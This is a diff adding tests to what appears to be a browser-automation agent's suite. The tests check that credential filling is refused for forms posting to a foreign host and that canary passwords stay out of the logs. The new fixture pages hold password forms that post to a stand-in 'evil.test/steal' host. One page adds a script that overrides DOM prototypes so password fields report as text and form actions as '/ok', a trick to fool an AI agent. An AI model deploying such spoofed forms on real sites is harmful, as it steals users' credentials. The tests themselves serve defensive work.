@@ -16,6 +16,25 @@ describe('agent controls: select, keys, hover, back, wait, navigate, screenshot,
       if (req.url === '/leaky-form') {
         return html(res, `<form action="http://evil.test:${site.port}/steal" method="post"><label for="p">Password</label><input id="p" name="p" type="password"><button>Go</button></form>`);
       }
+      if (req.url === '/lying-form') {
+        // A page whose scripts make its password fields say "text" and its forms' action say "/ok".
+        return html(
+          res,
+          `<form action="http://evil.test:${site.port}/steal" method="post"><label for="p">Password</label><input id="p" name="p" type="password" autocomplete="current-password"><button>Go</button></form>` +
+            `<form action="/ok" method="post"><label for="w">Secret word</label><input id="w" name="w" type="password"></form>` +
+            `<script>Object.defineProperty(HTMLInputElement.prototype, 'type', { get() { return 'text'; } });` +
+            `const get = Element.prototype.getAttribute; Element.prototype.getAttribute = function (name) { return name === 'action' ? '/ok' : name === 'autocomplete' || name === 'form' ? null : get.call(this, name); };</script>`,
+        );
+      }
+      if (req.url === '/form-attribute') {
+        // Honest: fields whose form is named by their form attribute, one posting here, one to evil.test.
+        return html(
+          res,
+          `<form id="fine" action="/ok" method="post"></form><form id="leaky" action="http://evil.test:${site.port}/steal" method="post"><label>Inside <input name="i" type="password"></label></form>` +
+            `<label for="w">Secret word</label><input id="w" name="w" type="password" form="fine"><label for="x">Other word</label><input id="x" name="x" type="password" form="leaky">` +
+            `<form action="/ok"><label for="y">Borrowed word</label><input id="y" name="y" type="password" form="leaky"></form>`,
+        );
+      }
       if (req.url === '/opener') {
         return html(res, `<a href="/popup-page" target="_blank">Open a window</a>`);
       }
@@ -168,6 +187,35 @@ describe('agent controls: select, keys, hover, back, wait, navigate, screenshot,
       const refused = await session.agent.fillCredential(refOf(form.text, 'textbox "Password"'), Buffer.from(CANARY_PASSWORD), options).catch((error: unknown) => error);
       expect(refused).toMatchObject({ code: 'forbidden' });
       expect((await session.agent.snapshot(options)).text).not.toMatch(/textbox "Password"[^\n]*: /);
+    } finally {
+      await session.close();
+    }
+    expect(fx.logs.text()).not.toContain(CANARY_PASSWORD);
+  });
+
+  it("a page that overrides the DOM's prototypes (type says text, getAttribute lies): typing into its password field is still a password field's, a foreign form action still refused", async () => {
+    const session = await siteSession('agent-actions-8');
+    try {
+      await session.agent.navigate(site.url('site.test', '/lying-form'), options);
+      const form = await session.agent.snapshot(options);
+      // What the audit's masking goes by (mcp-tools.ts masks `text` unless the field is 'text').
+      const typed = await session.agent.type(refOf(form.text, 'textbox "Password"'), 'typed-by-agent-0042', options);
+      expect(typed.field).toBe('password');
+      const refused = await session.agent.fillCredential(refOf(form.text, 'textbox "Password"'), Buffer.from(CANARY_PASSWORD), options).catch((error: unknown) => error);
+      expect(refused).toMatchObject({ code: 'forbidden' });
+      // A field whose form truly posts to the page's own host is filled, as before.
+      const filled = await session.agent.fillCredential(refOf(form.text, 'textbox "Secret word"'), Buffer.from(CANARY_PASSWORD), options);
+      expect(filled).toMatchObject({ target: 'textbox "Secret word"', field: 'password' });
+      expect((await session.agent.type(refOf(form.text, 'textbox "Secret word"'), 'another-0042', options)).field).toBe('password');
+
+      // An honest page: a form attribute names the field's form (over its ancestor form), checked the same way.
+      await session.agent.navigate(site.url('site.test', '/form-attribute'), options);
+      const named = await session.agent.snapshot(options);
+      const fill = (name: string) => session.agent.fillCredential(refOf(named.text, `textbox "${name}"`), Buffer.from(CANARY_PASSWORD), options).catch((error: unknown) => error);
+      expect(await fill('Secret word')).toMatchObject({ field: 'password' });
+      expect(await fill('Other word')).toMatchObject({ code: 'forbidden' });
+      expect(await fill('Borrowed word')).toMatchObject({ code: 'forbidden' });
+      expect(await fill('Inside')).toMatchObject({ code: 'forbidden' });
     } finally {
       await session.close();
     }
